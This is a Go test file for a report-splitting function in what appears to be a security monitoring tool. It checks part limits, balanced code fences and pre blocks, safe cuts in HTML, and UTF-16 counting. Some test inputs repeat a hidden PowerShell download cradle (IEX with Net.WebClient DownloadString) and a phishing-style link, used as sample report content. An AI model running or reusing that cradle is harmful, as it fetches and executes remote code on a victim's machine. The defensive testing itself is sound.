package sentinel

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestSplit(t *testing.T) {
	for _, tc := range []struct {
		name      string
		text      string
		html      bool
		max, cap  int
		parts     int
		omitted   int
		wantInAll []string
	}{
		{"fits", "short report", false, 100, 100, 1, 0, []string{"short report"}},
		{"exactly the limit", strings.Repeat("a", 200), false, 200, 100, 1, 0, nil},
		{"lines", strings.Repeat("line of text that is forty characters\n", 30), false, 400, 100, 4, 0, []string{"part 1 of 4", "part 4 of 4"}},
		{"one huge line", strings.Repeat("x", 1000), false, 300, 100, 4, 0, nil},
		{"html headers", strings.Repeat("<p>paragraph</p>\n", 40), true, 300, 100, 3, 0, []string{"<p><b>Spotter report, part 1 of 3</b></p>"}},
		{"capped", strings.Repeat("line of text that is forty characters\n", 30), false, 400, 2, 2, 4, []string{"4 more part(s)", "part 2 of 6"}},
		{"multi-byte runes", strings.Repeat("é€😀\n", 200), false, 300, 100, 4, 0, nil},
		// 😀 is two UTF-16 code units: 200 of them are 400 characters.
		{"astral plane counts twice", strings.Repeat("😀", 200), false, 300, 100, 2, 0, nil},
		// 1,091 parts, 991 left out: "part 100 of 1091" still fits.
		{"thousands of parts", strings.Repeat("x", 120000), false, 150, 100, 100, 991, []string{"part 100 of 1091"}},
		{"astral plane in one line", strings.Repeat("a😀", 500), false, 150, 100, 14, 0, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			parts, omitted := Split(tc.text, tc.html, tc.max, tc.cap)
			if len(parts) != tc.parts || omitted != tc.omitted {
				t.Fatalf("parts %d omitted %d, want %d and %d", len(parts), omitted, tc.parts, tc.omitted)
			}
			for i, p := range parts {
				if n := textLen(p); n > tc.max {
					t.Errorf("part %d: %d characters > %d", i+1, n, tc.max)
				}
				if !utf8.ValidString(p) {
					t.Errorf("part %d: invalid UTF-8", i+1)
				}
			}
			all := strings.Join(parts, "")
			for _, s := range tc.wantInAll {
				if !strings.Contains(all, s) {
					t.Errorf("%q missing", s)
				}
			}
		})
	}
}

func TestSplitKeepsCodeFencesBalanced(t *testing.T) {
	text := "intro\n```powershell\n" + strings.Repeat("Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')\n", 20) + "```\nafter\n"
	parts, _ := Split(text, false, 500, 100)
	if len(parts) < 3 {
		t.Fatalf("parts: %d", len(parts))
	}
	for i, p := range parts {
		if strings.Count(p, "```")%2 != 0 {
			t.Errorf("part %d: unbalanced fence:\n%s", i+1, p)
		}
		if i > 0 && i < len(parts)-1 && !strings.Contains(p, "```powershell\n") {
			t.Errorf("part %d does not reopen the fence with its language", i+1)
		}
	}
}

// A multi-line <pre><code> block (decoded command lines in the HTML
// report) cut in two is closed and reopened, so no part renders the rest
// of the report as code.
func TestSplitKeepsPreBlocksBalanced(t *testing.T) {
	text := "<p>intro</p>\n<pre><code>" + strings.Repeat("powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString(&#39;http://x&#39;)\n", 20) +
		"</code></pre>\n<p>after</p>\n"
	parts, _ := Split(text, true, 600, 100)
	if len(parts) < 3 {
		t.Fatalf("parts: %d", len(parts))
	}
	for i, p := range parts {
		if o, c := strings.Count(p, "<pre><code>"), strings.Count(p, "</code></pre>"); o != c {
			t.Errorf("part %d: %d <pre><code> and %d </code></pre>:\n%s", i+1, o, c, p)
		}
		if textLen(p) > 600 {
			t.Errorf("part %d: %d characters", i+1, textLen(p))
		}
	}
	if !strings.Contains(parts[len(parts)-1], "<p>after</p>") {
		t.Error("the text after the block was lost")
	}
}

// A long HTML line is never cut inside a tag or a character reference:
// the portal would show the halves as text.
func TestSplitHTMLNotInsideTags(t *testing.T) {
	line := strings.Repeat(`<a href="https://phish.example/login?user=alice&amp;step=2">phish.example &amp; co</a>, `, 400)
	for _, limit := range []int{150, 301, 997, 5000} {
		parts, omitted := Split(line, true, limit, 100)
		if len(parts) < 2 {
			t.Fatalf("limit %d: %d parts", limit, len(parts))
		}
		for i, p := range parts {
			body := p[strings.Index(p, "</p>\n")+len("</p>\n"):]
			if strings.Count(body, "<") != strings.Count(body, ">") {
				t.Errorf("limit %d part %d cut inside a tag: ...%q", limit, i+1, body[max(0, len(body)-40):])
			}
			if a := strings.LastIndexByte(body, '&'); a >= 0 && !strings.Contains(body[a:], ";") {
				t.Errorf("limit %d part %d cut inside a character reference: ...%q", limit, i+1, body[a:])
			}
			if n := utf8.RuneCountInString(p); n > limit {
				t.Errorf("limit %d part %d: %d runes", limit, i+1, n)
			}
		}
		if got := stripHeaders(parts); omitted == 0 && got != line {
			t.Errorf("limit %d: the parts do not add up to the text", limit)
		}
	}
}

// stripHeaders joins split parts without their "part i of n" lines.
func stripHeaders(parts []string) string {
	var b strings.Builder
	for _, p := range parts {
		b.WriteString(p[strings.Index(p, "</p>\n")+len("</p>\n"):])
	}
	return b.String()
}

func TestTextLen(t *testing.T) {
	for _, tc := range []struct {
		s    string
		want int
	}{
		{"", 0}, {"abc", 3}, {"é€", 2}, {"😀", 2}, {"a😀b", 4}, {"\xff\xfe", 2}, {"\U0010FFFF", 2},
	} {
		if got := textLen(tc.s); got != tc.want {
			t.Errorf("textLen(%q) = %d, want %d", tc.s, got, tc.want)
		}
	}
}

func TestCommentIDIsStable(t *testing.T) {
	a, b := CommentID("run-1", "details/1"), CommentID("run-1", "details/1")
	if a != b || a == CommentID("run-1", "details/2") || a == CommentID("run-2", "details/1") || !validID(a) {
		t.Errorf("%s %s", a, b)
	}
}

// FuzzSplit checks the splitting invariants on arbitrary text: no part
// over the limit, never more parts than allowed, valid UTF-8 kept valid.
func FuzzSplit(f *testing.F) {
	f.Add("a\nb\nc", 120, 3)
	f.Add("```\ncode\n```\n"+strings.Repeat("z", 500), 150, 100)
	f.Add(strings.Repeat("é", 400), 130, 2)
	f.Add(strings.Repeat("😀<b>&amp;</b>", 300), 121, 100)
	f.Add("<pre><code>"+strings.Repeat("line\n", 200)+"</code></pre>\n<pre>x\n"+strings.Repeat("y", 300), 130, 100)
	f.Fuzz(func(t *testing.T, text string, max, cap int) {
		if max < 120 || max > 5000 || cap < 1 || cap > 100 || len(text) > 20000 {
			return
		}
		for _, html := range []bool{false, true} {
			parts, omitted := Split(text, html, max, cap)
			if len(parts) > cap || len(parts) == 0 || omitted < 0 {
				t.Fatalf("parts %d omitted %d cap %d", len(parts), omitted, cap)
			}
			for _, p := range parts {
				if textLen(p) > max {
					t.Fatalf("part of %d characters > %d", textLen(p), max)
				}
				if utf8.ValidString(text) && !utf8.ValidString(p) {
					t.Fatal("split inside a rune")
				}
			}
		}
	})
}
